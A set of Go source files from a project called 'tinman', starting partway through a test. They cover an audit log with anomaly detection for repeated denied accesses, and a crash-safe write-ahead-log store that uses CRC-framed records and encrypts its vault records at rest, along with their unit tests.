	}
	// Missing file: clean no-op.
	if err := NewLog(nil).LoadFileFS(fs, "absent.log"); err != nil {
		t.Fatalf("missing file: %v", err)
	}
}

// TestRestoreResumesSeq pins the exported Restore: the sequence counter
// continues after the highest restored Seq and anomalies are rescanned.
func TestRestoreResumesSeq(t *testing.T) {
	src := buildPersistLog(8)
	l := NewLog(nil)
	l.Restore(src.Entries())
	if !reflect.DeepEqual(wireForms(t, src.Entries()), wireForms(t, l.Entries())) {
		t.Fatal("restore diverged")
	}
	if len(l.Anomalies()) != len(src.Anomalies()) {
		t.Fatal("restore lost anomalies")
	}
	e := l.Append("h", "c", "d", "dom", OutcomeAllowed, "")
	if e.Seq != 9 {
		t.Fatalf("post-restore Seq = %d, want 9", e.Seq)
	}
}

// wireForms renders entries in their canonical persistence encoding so
// logs compare equal regardless of in-memory time representation
// (monotonic readings, location pointers).
func wireForms(t *testing.T, entries []Entry) []string {
	t.Helper()
	out := make([]string, len(entries))
	for i, e := range entries {
		b, err := e.WireJSON()
		if err != nil {
			t.Fatal(err)
		}
		out[i] = string(b)
	}
	return out
}
