package audit

import (
	"strings"
	"testing"
	"time"
)

func testClock() (*time.Time, func() time.Time) {
	t := time.Date(2015, 4, 21, 12, 0, 0, 0, time.UTC)
	return &t, func() time.Time { return t }
}

func TestAppendAndEntries(t *testing.T) {
	_, now := testClock()
	l := NewLog(now)
	e1 := l.Append("hash1", "pw", "dev1", "bank.com", OutcomeAllowed, "")
	e2 := l.Append("hash2", "pw", "dev1", "evil.com", OutcomeDenied, "domain")
	if e1.Seq != 1 || e2.Seq != 2 {
		t.Fatalf("seqs: %d %d", e1.Seq, e2.Seq)
	}
	if l.Len() != 2 {
		t.Fatalf("len = %d", l.Len())
	}
	all := l.Entries()
	if len(all) != 2 || all[0].CorID != "pw" {
		t.Fatalf("entries = %v", all)
	}
	if !strings.Contains(e2.String(), "denied") || !strings.Contains(e2.String(), "evil.com") {
		t.Fatalf("entry text: %s", e2.String())
	}
}

func TestSubscribe(t *testing.T) {
	_, now := testClock()
	l := NewLog(now)
	var got []Entry
	l.Subscribe(func(e Entry) { got = append(got, e) })
	l.Append("h", "c", "d", "", OutcomeAllowed, "")
	l.Append("h", "c", "d", "", OutcomeDenied, "")
	if len(got) != 2 {
		t.Fatalf("subscriber saw %d entries", len(got))
	}
}

func TestFind(t *testing.T) {
	clock, now := testClock()
	l := NewLog(now)
	l.Append("h1", "pw", "dev1", "a.com", OutcomeAllowed, "")
	*clock = clock.Add(time.Hour)
	l.Append("h2", "cc", "dev2", "b.com", OutcomeDenied, "")
	l.Append("h3", "pw", "dev2", "c.com", OutcomeDenied, "")

	if got := l.Find(Query{CorID: "pw"}); len(got) != 2 {
		t.Fatalf("by cor: %d", len(got))
	}
	if got := l.Find(Query{DeviceID: "dev2"}); len(got) != 2 {
		t.Fatalf("by device: %d", len(got))
	}
	denied := OutcomeDenied
	if got := l.Find(Query{Outcome: &denied}); len(got) != 2 {
		t.Fatalf("by outcome: %d", len(got))
	}
	if got := l.Find(Query{Since: clock.Add(-time.Minute)}); len(got) != 2 {
		t.Fatalf("by time: %d", len(got))
	}
	if got := l.Find(Query{CorID: "pw", DeviceID: "dev2"}); len(got) != 1 {
		t.Fatalf("combined: %d", len(got))
	}
}

func TestAnomalyDetection(t *testing.T) {
	_, now := testClock()
	l := NewLog(now)
	l.AnomalyThreshold = 3
	l.AnomalyWindow = time.Hour

	// Two denials: below threshold.
	l.Append("h", "pw", "stolen", "evil.com", OutcomeDenied, "")
	l.Append("h", "pw", "stolen", "evil.com", OutcomeDenied, "")
	if len(l.Anomalies()) != 0 {
		t.Fatal("anomaly flagged too early")
	}
	// Third within the window: flagged.
	l.Append("h", "pw", "stolen", "evil.com", OutcomeDenied, "")
	an := l.Anomalies()
	if len(an) != 1 || an[0].Denials != 3 || an[0].DeviceID != "stolen" {
		t.Fatalf("anomalies = %v", an)
	}
	if an[0].String() == "" {
		t.Fatal("empty anomaly text")
	}
}

func TestAnomalyWindowExpires(t *testing.T) {
	clock, now := testClock()
	l := NewLog(now)
	l.AnomalyThreshold = 3
	l.AnomalyWindow = time.Hour
	l.Append("h", "pw", "d", "", OutcomeDenied, "")
	l.Append("h", "pw", "d", "", OutcomeDenied, "")
	*clock = clock.Add(2 * time.Hour)
	l.Append("h", "pw", "d", "", OutcomeDenied, "")
	if len(l.Anomalies()) != 0 {
		t.Fatal("stale denials counted toward anomaly")
	}
}

func TestAnomalyScopedToDeviceAndCor(t *testing.T) {
	_, now := testClock()
	l := NewLog(now)
	l.AnomalyThreshold = 3
	l.Append("h", "pw", "d1", "", OutcomeDenied, "")
	l.Append("h", "pw", "d2", "", OutcomeDenied, "")
	l.Append("h", "cc", "d1", "", OutcomeDenied, "")
	if len(l.Anomalies()) != 0 {
		t.Fatal("denials across devices/cors must not aggregate")
	}
}

func TestAllowedEntriesNeverAnomalous(t *testing.T) {
	_, now := testClock()
	l := NewLog(now)
	l.AnomalyThreshold = 1
	for i := 0; i < 10; i++ {
		l.Append("h", "pw", "d", "", OutcomeAllowed, "")
	}
	if len(l.Anomalies()) != 0 {
		t.Fatal("allowed accesses flagged as anomalies")
	}
}

func TestOutcomeString(t *testing.T) {
	if OutcomeAllowed.String() != "allowed" || OutcomeDenied.String() != "denied" {
		t.Fatal("outcome names wrong")
	}
}
