package audit

import (
	"bytes"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

func TestWriteReadRoundTrip(t *testing.T) {
	_, now := testClock()
	l := NewLog(now)
	l.Append("h1", "pw", "dev1", "a.com", OutcomeAllowed, "first")
	l.Append("h2", "cc", "dev2", "b.com", OutcomeDenied, "second")

	var buf bytes.Buffer
	if _, err := l.WriteTo(&buf); err != nil {
		t.Fatal(err)
	}
	if strings.Count(buf.String(), "\n") != 2 {
		t.Fatalf("want 2 JSON lines, got %q", buf.String())
	}

	l2 := NewLog(now)
	n, err := l2.ReadFrom(&buf)
	if err != nil || n != 2 {
		t.Fatalf("read %d, %v", n, err)
	}
	got := l2.Entries()
	if got[0].CorID != "pw" || got[1].Outcome != OutcomeDenied || got[1].Detail != "second" {
		t.Fatalf("entries = %+v", got)
	}
	// Sequence numbering resumes.
	e := l2.Append("h3", "x", "d", "", OutcomeAllowed, "")
	if e.Seq != 3 {
		t.Fatalf("resumed seq = %d, want 3", e.Seq)
	}
}

func TestReadRejectsGarbage(t *testing.T) {
	l := NewLog(nil)
	if _, err := l.ReadFrom(strings.NewReader("{not json")); err == nil {
		t.Fatal("garbage accepted")
	}
	if _, err := l.ReadFrom(strings.NewReader(`{"seq":1,"time":"2015-04-21T00:00:00Z","outcome":9}` + "\n")); err == nil {
		t.Fatal("invalid outcome accepted")
	}
}

func TestSaveLoadFile(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "audit.jsonl")

	_, now := testClock()
	l := NewLog(now)
	for i := 0; i < 10; i++ {
		l.Append("h", "pw", "dev", "d.com", OutcomeAllowed, "")
	}
	if err := l.SaveFile(path); err != nil {
		t.Fatal(err)
	}
	l2 := NewLog(now)
	if err := l2.LoadFile(path); err != nil {
		t.Fatal(err)
	}
	if l2.Len() != 10 {
		t.Fatalf("loaded %d entries", l2.Len())
	}
	// Loading a missing file is a clean first boot.
	l3 := NewLog(now)
	if err := l3.LoadFile(filepath.Join(dir, "absent.jsonl")); err != nil {
		t.Fatal(err)
	}
	if l3.Len() != 0 {
		t.Fatal("missing file produced entries")
	}
}

func TestRescanAnomaliesAfterLoad(t *testing.T) {
	_, now := testClock()
	l := NewLog(now)
	l.AnomalyThreshold = 3
	for i := 0; i < 3; i++ {
		l.Append("h", "pw", "stolen", "evil.com", OutcomeDenied, "")
	}
	if len(l.Anomalies()) != 1 {
		t.Fatal("setup: anomaly not detected live")
	}
	var buf bytes.Buffer
	l.WriteTo(&buf)

	l2 := NewLog(now)
	l2.AnomalyThreshold = 3
	if _, err := l2.ReadFrom(&buf); err != nil {
		t.Fatal(err)
	}
	if len(l2.Anomalies()) != 1 {
		t.Fatalf("loaded log has %d anomalies, want 1", len(l2.Anomalies()))
	}
}

func TestTimesSurviveRoundTrip(t *testing.T) {
	clock, now := testClock()
	l := NewLog(now)
	l.Append("h", "pw", "d", "", OutcomeAllowed, "")
	*clock = clock.Add(90 * time.Minute)
	l.Append("h", "pw", "d", "", OutcomeDenied, "")

	var buf bytes.Buffer
	l.WriteTo(&buf)
	l2 := NewLog(now)
	l2.ReadFrom(&buf)
	es := l2.Entries()
	if es[1].Time.Sub(es[0].Time) != 90*time.Minute {
		t.Fatalf("time delta = %v", es[1].Time.Sub(es[0].Time))
	}
}
