// Package store is the trusted node's crash-safe storage engine: a
// write-ahead log with group commit, periodic snapshots with log
// compaction, CRC-framed records that detect torn tails, and encryption at
// rest for cor vault records (reusing the internal/cor sealing path).
//
// The durability contract is the one TinMan's security argument needs
// (§3.4: the node is the system of record for cors and audit evidence):
// every vault mutation, audit append, and policy change is framed into the
// WAL and fsynced before the operation is acknowledged, and recovery after
// kill -9 replays the latest valid snapshot plus the WAL to a gap-free
// audit Seq — including after a crash between snapshot write and log
// truncation, and after a second crash during recovery itself.
package store

import (
	"encoding/binary"
	"errors"
	"hash/crc32"

	"tinman/internal/audit"
)

// Record types. Snapshot files and WAL segments share one frame format;
// the header/end types appear only in snapshots.
const (
	recAudit   byte = 1 // payload: binary audit entry (record.go)
	recVault   byte = 2 // payload: sealed vault record (encrypted at rest)
	recPolicy  byte = 3 // payload: JSON policy op
	recSnapHdr byte = 4 // payload: JSON snapshot header; lsn = covered LSN
	recSnapEnd byte = 5 // payload: empty; lsn = covered LSN (validity mark)
)

// Frame layout:
//
//	[u32 length][u32 crc32c][u8 type][u64 lsn][payload]
//
// length counts type+lsn+payload (everything after the crc); the crc
// (Castagnoli) covers the same bytes. A frame whose length field, crc, or
// body cannot be read intact marks the torn tail of the file — recovery
// keeps everything before it and discards the rest.
const (
	frameHdrLen  = 4 + 4    // length + crc
	frameMetaLen = 1 + 8    // type + lsn
	maxFrameLen  = 16 << 20 // sanity cap; no record approaches this
)

var castagnoli = crc32.MakeTable(crc32.Castagnoli)

// errTornFrame marks a frame that cannot be decoded — a torn or truncated
// tail, or flipped bits. Recovery treats it as "the log ends here".
var errTornFrame = errors.New("store: torn or corrupt frame")

// appendFrame appends one framed record to dst and returns the result.
func appendFrame(dst []byte, typ byte, lsn uint64, payload []byte) []byte {
	bodyLen := frameMetaLen + len(payload)
	dst = binary.LittleEndian.AppendUint32(dst, uint32(bodyLen))
	crcAt := len(dst)
	dst = binary.LittleEndian.AppendUint32(dst, 0) // crc placeholder
	bodyAt := len(dst)
	dst = append(dst, typ)
	dst = binary.LittleEndian.AppendUint64(dst, lsn)
	dst = append(dst, payload...)
	crc := crc32.Checksum(dst[bodyAt:], castagnoli)
	binary.LittleEndian.PutUint32(dst[crcAt:], crc)
	return dst
}

// appendAuditFrame frames an audit entry, encoding the payload straight
// into dst — the append hot path allocates no intermediate buffer.
func appendAuditFrame(dst []byte, lsn uint64, e audit.Entry) []byte {
	lenAt := len(dst)
	dst = binary.LittleEndian.AppendUint32(dst, 0) // length placeholder
	crcAt := len(dst)
	dst = binary.LittleEndian.AppendUint32(dst, 0) // crc placeholder
	bodyAt := len(dst)
	dst = append(dst, recAudit)
	dst = binary.LittleEndian.AppendUint64(dst, lsn)
	dst = encodeAudit(dst, e)
	binary.LittleEndian.PutUint32(dst[lenAt:], uint32(len(dst)-bodyAt))
	binary.LittleEndian.PutUint32(dst[crcAt:], crc32.Checksum(dst[bodyAt:], castagnoli))
	return dst
}

// readFrame decodes the frame at buf[off:]. It returns the frame fields and
// the offset just past the frame. Any failure — short header, absurd
// length, short body, crc mismatch, unknown type — returns errTornFrame:
// the valid prefix of the file ends at off.
func readFrame(buf []byte, off int) (typ byte, lsn uint64, payload []byte, next int, err error) {
	if off+frameHdrLen > len(buf) {
		return 0, 0, nil, off, errTornFrame
	}
	bodyLen := int(binary.LittleEndian.Uint32(buf[off:]))
	if bodyLen < frameMetaLen || bodyLen > maxFrameLen {
		return 0, 0, nil, off, errTornFrame
	}
	crc := binary.LittleEndian.Uint32(buf[off+4:])
	bodyAt := off + frameHdrLen
	if bodyAt+bodyLen > len(buf) {
		return 0, 0, nil, off, errTornFrame
	}
	body := buf[bodyAt : bodyAt+bodyLen]
	if crc32.Checksum(body, castagnoli) != crc {
		return 0, 0, nil, off, errTornFrame
	}
	typ = body[0]
	if typ < recAudit || typ > recSnapEnd {
		return 0, 0, nil, off, errTornFrame
	}
	lsn = binary.LittleEndian.Uint64(body[1:])
	payload = body[frameMetaLen:]
	return typ, lsn, payload, bodyAt + bodyLen, nil
}

// frameSize returns the on-disk size of a frame with the given payload.
func frameSize(payloadLen int) int { return frameHdrLen + frameMetaLen + payloadLen }
