package store

import (
	"bytes"
	"context"
	"errors"
	"reflect"
	"testing"
	"time"

	"tinman/internal/audit"
	"tinman/internal/cor"
	"tinman/internal/fault"
)

// testSealer is derived once per process: the deliberate KDF cost would
// otherwise dominate every test that opens a store.
var testSealer = func() *cor.Sealer {
	s, err := cor.NewSealer("test-passphrase", bytes.Repeat([]byte{0x5a}, cor.SaltLen))
	if err != nil {
		panic(err)
	}
	return s
}()

func testOpts(fs fault.FS) Options {
	return Options{Dir: "store", FS: fs, Sealer: testSealer}
}

func mustOpen(t *testing.T, opts Options) *Store {
	t.Helper()
	s, err := Open(opts)
	if err != nil {
		t.Fatalf("Open: %v", err)
	}
	return s
}

// entry mints the i-th deterministic audit entry (Seq = i).
func entry(i int) audit.Entry {
	out := audit.OutcomeAllowed
	if i%3 == 0 {
		out = audit.OutcomeDenied
	}
	return audit.Entry{
		Seq: uint64(i), Time: time.Unix(0, int64(i)*1e6),
		AppHash: "hash-abcdef", CorID: "cor-main", DeviceID: "dev-1",
		Domain: "example.com", Outcome: out, Detail: "detail",
		DeviceSeq: uint64(i), PolicyVersion: uint64(i * 2), PolicyHash: "abc123def456",
	}
}

func wait(t *testing.T, tk Ticket) {
	t.Helper()
	if err := tk.Wait(context.Background()); err != nil {
		t.Fatalf("ticket: %v", err)
	}
}

func TestFrameRoundTrip(t *testing.T) {
	buf := appendFrame(nil, recAudit, 7, []byte("hello"))
	buf = appendFrame(buf, recPolicy, 8, nil)
	typ, lsn, payload, next, err := readFrame(buf, 0)
	if err != nil || typ != recAudit || lsn != 7 || string(payload) != "hello" {
		t.Fatalf("frame 1 = %d %d %q %v", typ, lsn, payload, err)
	}
	typ, lsn, payload, next2, err := readFrame(buf, next)
	if err != nil || typ != recPolicy || lsn != 8 || len(payload) != 0 {
		t.Fatalf("frame 2 = %d %d %q %v", typ, lsn, payload, err)
	}
	if next2 != len(buf) {
		t.Fatalf("next2 = %d, want %d", next2, len(buf))
	}
	// Every one-byte truncation and every flipped byte must read as torn.
	for cut := 0; cut < len(buf); cut++ {
		if cut >= next {
			break
		}
		if _, _, _, _, err := readFrame(buf[:cut], 0); err == nil {
			t.Fatalf("truncation at %d not detected", cut)
		}
	}
	for i := 0; i < next; i++ {
		mut := append([]byte(nil), buf...)
		mut[i] ^= 0x40
		if typ, lsn, p, _, err := readFrame(mut, 0); err == nil &&
			(typ != recAudit || lsn != 7 || string(p) != "hello") {
			t.Fatalf("flip at %d decoded wrong frame silently", i)
		}
	}
}

func TestAuditCodecRoundTrip(t *testing.T) {
	for i := 1; i < 20; i++ {
		e := entry(i)
		got, err := decodeAudit(encodeAudit(nil, e))
		if err != nil {
			t.Fatalf("decode: %v", err)
		}
		if !reflect.DeepEqual(got, e) {
			t.Fatalf("round trip: got %+v want %+v", got, e)
		}
	}
	// Truncations fail loudly — except a cut exactly at the pre-stamp
	// boundary, which is byte-identical to a record written before policy
	// versioning and must decode (backward compatibility). The frame CRC,
	// not this codec, is the real torn-write detector.
	e5 := entry(5)
	full := encodeAudit(nil, e5)
	legacy := e5
	legacy.PolicyVersion, legacy.PolicyHash = 0, ""
	// A zero stamp encodes as 2 tail bytes (uvarint 0 + empty string).
	legacyLen := len(encodeAudit(nil, legacy)) - 2
	for cut := 0; cut < len(full); cut++ {
		got, err := decodeAudit(full[:cut])
		if cut == legacyLen {
			if err != nil || !reflect.DeepEqual(got, legacy) {
				t.Fatalf("legacy-boundary cut at %d: got %+v, %v", cut, got, err)
			}
			continue
		}
		if err == nil {
			t.Fatalf("truncated payload at %d decoded", cut)
		}
	}
}

// TestAuditCodecLegacyRecord pins backward compatibility: a record encoded
// without the policy-stamp tail (the pre-control-plane format) decodes with
// a zero stamp.
func TestAuditCodecLegacyRecord(t *testing.T) {
	e := entry(3)
	e.PolicyVersion, e.PolicyHash = 0, ""
	full := encodeAudit(nil, e)
	// Strip the zero tail (uvarint 0 + empty string = 2 bytes) to get the
	// exact legacy encoding.
	legacy := full[:len(full)-2]
	got, err := decodeAudit(legacy)
	if err != nil {
		t.Fatalf("legacy record rejected: %v", err)
	}
	if !reflect.DeepEqual(got, e) {
		t.Fatalf("legacy round trip: got %+v want %+v", got, e)
	}
}

func TestStoreRoundTrip(t *testing.T) {
	fs := fault.NewCrashFS(1)
	s := mustOpen(t, testOpts(fs))
	for i := 1; i <= 10; i++ {
		wait(t, s.AppendAudit(entry(i)))
	}
	wait(t, s.AppendVault(VaultRecord{ID: "cor-a", Plaintext: "secret-a", Bit: 1, Whitelist: []string{"example.com"}}))
	wait(t, s.AppendVault(VaultRecord{ID: "cor-b", Plaintext: "secret-b", Bit: 2}))
	wait(t, s.AppendVault(VaultRecord{ID: "cor-a", Plaintext: "secret-a2", Bit: 1})) // upsert
	wait(t, s.AppendPolicy(PolicyOp{Op: PolicyBind, CorID: "cor-a", AppHash: "h1"}))
	wait(t, s.AppendPolicy(PolicyOp{Op: PolicyRevoke, DeviceID: "dev-1"}))
	if err := s.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}

	r := mustOpen(t, testOpts(fs))
	defer r.Close()
	st := r.State()
	if len(st.Audit) != 10 {
		t.Fatalf("recovered %d audit entries, want 10", len(st.Audit))
	}
	for i, e := range st.Audit {
		if !reflect.DeepEqual(e, entry(i+1)) {
			t.Fatalf("entry %d mismatch: %+v", i, e)
		}
	}
	if len(st.Vault) != 2 || st.Vault[0].Plaintext != "secret-a2" || st.Vault[1].ID != "cor-b" {
		t.Fatalf("vault state %+v", st.Vault)
	}
	if len(st.Policy) != 2 || st.Policy[0].Op != PolicyBind || st.Policy[1].Op != PolicyRevoke {
		t.Fatalf("policy state %+v", st.Policy)
	}
}

func TestStoreNoPlaintextOnDisk(t *testing.T) {
	fs := fault.NewCrashFS(2)
	s := mustOpen(t, Options{Dir: "store", FS: fs, Sealer: testSealer, SnapshotEvery: 3})
	secrets := []string{"hunter2-super-secret", "derived-sha-secret"}
	wait(t, s.AppendVault(VaultRecord{ID: "cor-a", Plaintext: secrets[0], Bit: 1}))
	wait(t, s.AppendVault(VaultRecord{ID: "cor-b", Plaintext: secrets[1], Bit: 2}))
	for i := 1; i <= 6; i++ {
		wait(t, s.AppendAudit(entry(i)))
	}
	if err := s.Snapshot(); err != nil {
		t.Fatalf("Snapshot: %v", err)
	}
	if err := s.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}
	if hits := fault.ScanForPlaintext(fs.DiskBytes(), secrets); len(hits) != 0 {
		t.Fatalf("cor plaintext on disk: %v", hits)
	}
	// Sanity-check the scanner catches unsealed leaks.
	disk := fs.DiskBytes()
	disk["leak"] = []byte("xx" + secrets[0] + "yy")
	if hits := fault.ScanForPlaintext(disk, secrets); len(hits) != 1 {
		t.Fatalf("scanner missed a planted leak: %v", hits)
	}
}

func TestStoreSnapshotCompaction(t *testing.T) {
	fs := fault.NewCrashFS(3)
	opts := testOpts(fs)
	opts.SegmentBytes = 256
	opts.SnapshotEvery = 10
	s := mustOpen(t, opts)
	for i := 1; i <= 35; i++ {
		wait(t, s.AppendAudit(entry(i)))
	}
	if err := s.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}
	// Compaction must have dropped covered segments and old snapshots.
	names, err := fs.ReadDirNames("store")
	if err != nil {
		t.Fatal(err)
	}
	var segs, snaps int
	for _, n := range names {
		if _, ok := parseLSNName(n, "wal-", ".log"); ok {
			segs++
		}
		if _, ok := parseLSNName(n, "snap-", ".db"); ok {
			snaps++
		}
	}
	if snaps != 1 {
		t.Fatalf("want exactly 1 snapshot after compaction, have %d (%v)", snaps, names)
	}
	if segs > 2 {
		t.Fatalf("compaction left %d segments (%v)", segs, names)
	}
	r := mustOpen(t, opts)
	defer r.Close()
	st := r.State()
	if len(st.Audit) != 35 {
		t.Fatalf("recovered %d entries, want 35", len(st.Audit))
	}
	for i, e := range st.Audit {
		if !reflect.DeepEqual(e, entry(i+1)) {
			t.Fatalf("entry %d mismatch after compaction: %+v", i, e)
		}
	}
}

func TestStoreReadOnly(t *testing.T) {
	fs := fault.NewCrashFS(4)
	s := mustOpen(t, Options{Dir: "store", FS: fs, Passphrase: "pp", SnapshotEvery: 4})
	wait(t, s.AppendVault(VaultRecord{ID: "cor-a", Plaintext: "sealed-secret", Bit: 1}))
	for i := 1; i <= 5; i++ {
		wait(t, s.AppendAudit(entry(i)))
	}
	if err := s.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}

	// Without a passphrase: audit visible, vault sealed.
	ro := mustOpen(t, Options{Dir: "store", FS: fs, ReadOnly: true})
	if st := ro.State(); len(st.Audit) != 5 || len(st.Vault) != 0 || st.SealedVault != 1 {
		t.Fatalf("read-only state: %d audit, %d vault, %d sealed", len(st.Audit), len(st.Vault), st.SealedVault)
	}
	if err := ro.AppendAudit(entry(9)).Wait(context.Background()); !errors.Is(err, ErrReadOnly) {
		t.Fatalf("append on read-only store: %v", err)
	}
	ro.Close()

	// With the passphrase: vault decrypts.
	ro2 := mustOpen(t, Options{Dir: "store", FS: fs, ReadOnly: true, Passphrase: "pp"})
	if st := ro2.State(); len(st.Vault) != 1 || st.Vault[0].Plaintext != "sealed-secret" {
		t.Fatalf("read-only vault state: %+v", st.Vault)
	}
	ro2.Close()

	// Wrong passphrase: hard failure wrapping cor.ErrVaultCorrupt.
	if _, err := Open(Options{Dir: "store", FS: fs, ReadOnly: true, Passphrase: "wrong"}); !errors.Is(err, cor.ErrVaultCorrupt) {
		t.Fatalf("wrong passphrase: %v", err)
	}
}

func TestStoreGroupCommitBatches(t *testing.T) {
	fs := fault.NewCrashFS(5)
	opts := testOpts(fs)
	opts.CommitInterval = 2 * time.Millisecond
	s := mustOpen(t, opts)
	const n = 64
	tickets := make([]Ticket, n)
	for i := 0; i < n; i++ {
		tickets[i] = s.AppendAudit(entry(i + 1))
	}
	for _, tk := range tickets {
		wait(t, tk)
	}
	stats := s.Stats()
	if err := s.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}
	if stats.Records != n {
		t.Fatalf("records = %d, want %d", stats.Records, n)
	}
	if stats.Batches >= n/2 {
		t.Fatalf("group commit did not batch: %d batches for %d records", stats.Batches, n)
	}
	if stats.Syncs >= n {
		t.Fatalf("group commit did not amortize fsync: %d syncs for %d records", stats.Syncs, n)
	}
	r := mustOpen(t, testOpts(fs))
	defer r.Close()
	if got := len(r.State().Audit); got != n {
		t.Fatalf("recovered %d entries, want %d", got, n)
	}
}

func TestStoreSealedRequiresPassphrase(t *testing.T) {
	if _, err := Open(Options{Dir: "x", FS: fault.NewCrashFS(6)}); err == nil {
		t.Fatal("writable open without passphrase or sealer must fail")
	}
}
