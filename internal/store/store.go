package store

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"sync"
	"time"

	"tinman/internal/audit"
	"tinman/internal/cor"
	"tinman/internal/fault"
)

// Sentinel errors.
var (
	// ErrClosed marks appends after Close.
	ErrClosed = errors.New("store: closed")
	// ErrReadOnly marks appends on a read-only store.
	ErrReadOnly = errors.New("store: read-only")
	// ErrCorrupt marks non-tail corruption — damage recovery cannot repair
	// by truncation (a bad frame in the middle of a synced segment, an LSN
	// gap above the snapshot horizon).
	ErrCorrupt = errors.New("store: log corrupt")
)

// Options configures Open.
type Options struct {
	// Dir is the store directory (created if missing).
	Dir string
	// Passphrase seals cor vault records at rest (the internal/cor KDF +
	// AES-256-GCM path). Required for writable stores; optional for
	// read-only opens, where an empty passphrase leaves vault records
	// sealed (State.SealedVault counts them).
	Passphrase string
	// Sealer, when non-nil, is used instead of deriving one from
	// Passphrase — for callers that already paid the KDF (and for tests,
	// where re-deriving on every Open would dominate the run time). The
	// same sealer must be supplied on every Open of the directory.
	Sealer *cor.Sealer
	// FS is the filesystem; nil means the real OS. Tests inject
	// fault.CrashFS here.
	FS fault.FS
	// ReadOnly opens without repairing torn tails, creating files, or
	// starting the committer — the tinman-audit offline-query mode.
	ReadOnly bool
	// CommitInterval is the group-commit accumulation window: after the
	// first record of a batch arrives the committer waits this long for
	// more before the single fsync. 0 commits as soon as the committer is
	// free (still batching whatever queued meanwhile).
	CommitInterval time.Duration
	// SegmentBytes rotates the active WAL segment past this size;
	// 0 means 4 MiB.
	SegmentBytes int64
	// SnapshotEvery auto-snapshots (and compacts the log) after this many
	// records since the last snapshot; 0 disables auto-snapshots.
	SnapshotEvery int
}

// State is the recovered contents of a store: everything a trusted node
// needs to resume — audit entries in Seq order, vault records in first-
// registration order (later upserts folded in), and policy ops in original
// order.
type State struct {
	Audit  []audit.Entry
	Vault  []VaultRecord
	Policy []PolicyOp
	// SealedVault counts vault records left undecrypted because the store
	// was opened read-only without a passphrase.
	SealedVault int
}

// Stats is a snapshot of the engine's activity counters.
type Stats struct {
	Records   uint64 // records committed
	Batches   uint64 // group commits (one buffered write each)
	Syncs     uint64 // file fsyncs issued by the engine
	Snapshots uint64 // snapshots written
	LastLSN   uint64 // highest LSN assigned
	SnapLSN   uint64 // LSN covered by the latest snapshot
}

// pending is one queued record: its frame inputs, the typed value for the
// in-memory state, and the caller's completion channel. The value slot per
// record type (rather than one `any`) keeps the append hot path from boxing
// every record — interface conversion is an allocation the group-commit
// throughput benchmark can see.
type pending struct {
	typ     byte
	payload []byte
	aud     audit.Entry
	vlt     VaultRecord
	pol     PolicyOp
	lsn     uint64
}

// Ticket is a handle on one append's durability: Wait returns nil once the
// record's group commit has fsynced, or the commit error.
type Ticket struct {
	s   *Store
	lsn uint64
	err error // append-time failure (encode, seal, closed store)
}

// Wait blocks until the record is durable or ctx is done.
func (t Ticket) Wait(ctx context.Context) error {
	if t.s == nil {
		return t.err
	}
	return t.s.waitLSN(ctx, t.lsn)
}

// waitLSN blocks until the commit watermark covers lsn or the store fails.
// The watermark is checked before the sticky error so a record that made it
// to disk reports durable even if a later batch failed.
func (s *Store) waitLSN(ctx context.Context, lsn uint64) error {
	done := ctx.Done()
	for {
		s.mu.Lock()
		if s.waterLSN >= lsn {
			s.mu.Unlock()
			return nil
		}
		if err := s.failed; err != nil {
			s.mu.Unlock()
			return err
		}
		ch := s.epoch
		s.mu.Unlock()
		if done == nil {
			// No cancellation to race against (context.Background and
			// friends): a plain receive skips the select machinery on the
			// commit hot path.
			<-ch
			continue
		}
		select {
		case <-ch:
		case <-done:
			return ctx.Err()
		}
	}
}

// Store is the crash-safe storage engine. Appends assign LSNs under one
// mutex (callers that must keep an external order — the node's audit Seq —
// take their own lock around mint+append, making Seq order equal LSN
// order), queue the record, and return a Ticket; a single committer
// goroutine drains the queue in batches, writing each batch with one
// buffered write and one fsync, then completes the tickets. A failed
// commit is sticky: the store refuses further work, because the disk state
// past the failure point is unknown.
type Store struct {
	fs     fault.FS
	dir    string
	opts   Options
	sealer *cor.Sealer

	mu      sync.Mutex
	nextLSN uint64
	queue   []pending
	failed  error
	closed  bool
	// waterLSN is the highest LSN whose group commit has fsynced; epoch is
	// closed and replaced on every commit (and on failure), so a Ticket
	// waits on the broadcast instead of owning a channel — appends allocate
	// nothing for completion.
	waterLSN uint64
	epoch    chan struct{}
	// spare is the previous batch's slice, handed back by the committer so
	// the queue doesn't re-grow from nil on every batch.
	spare []pending

	notify chan struct{}
	stopc  chan struct{}
	donec  chan struct{}

	// committer-owned; commitMu also serializes external Snapshot calls
	// against commits and compaction.
	commitMu  sync.Mutex
	seg       fault.File
	segName   string
	segSize   int64
	sinceSnap int
	buf       []byte // reused frame build buffer

	stateMu    sync.Mutex
	state      State
	vaultIdx   map[string]int
	durableLSN uint64
	snapLSN    uint64

	statMu sync.Mutex
	stats  Stats
}

// Dir returns the store directory.
func (s *Store) Dir() string { return s.dir }

// ReadOnly reports whether the store was opened read-only.
func (s *Store) ReadOnly() bool { return s.opts.ReadOnly }

// State returns a copy of the recovered + committed state.
func (s *Store) State() State {
	s.stateMu.Lock()
	defer s.stateMu.Unlock()
	out := State{
		Audit:       append([]audit.Entry(nil), s.state.Audit...),
		Vault:       append([]VaultRecord(nil), s.state.Vault...),
		Policy:      append([]PolicyOp(nil), s.state.Policy...),
		SealedVault: s.state.SealedVault,
	}
	return out
}

// Stats returns the activity counters.
func (s *Store) Stats() Stats {
	s.statMu.Lock()
	defer s.statMu.Unlock()
	st := s.stats
	s.mu.Lock()
	st.LastLSN = s.nextLSN
	s.mu.Unlock()
	s.stateMu.Lock()
	st.SnapLSN = s.snapLSN
	s.stateMu.Unlock()
	return st
}

// AppendAudit queues an audit entry for durable commit. The entry travels
// to the committer as its typed value and is encoded straight into the
// batch buffer there — no payload allocation on the hot path.
func (s *Store) AppendAudit(e audit.Entry) Ticket {
	return s.enqueue(pending{typ: recAudit, aud: e})
}

// AppendVault queues a vault upsert; the record is sealed (encrypted at
// rest) before it is framed.
func (s *Store) AppendVault(r VaultRecord) Ticket {
	plain, err := encodeVault(r)
	if err != nil {
		return failedTicket(err)
	}
	sealed, err := s.sealer.Seal(plain, vaultAD)
	if err != nil {
		return failedTicket(err)
	}
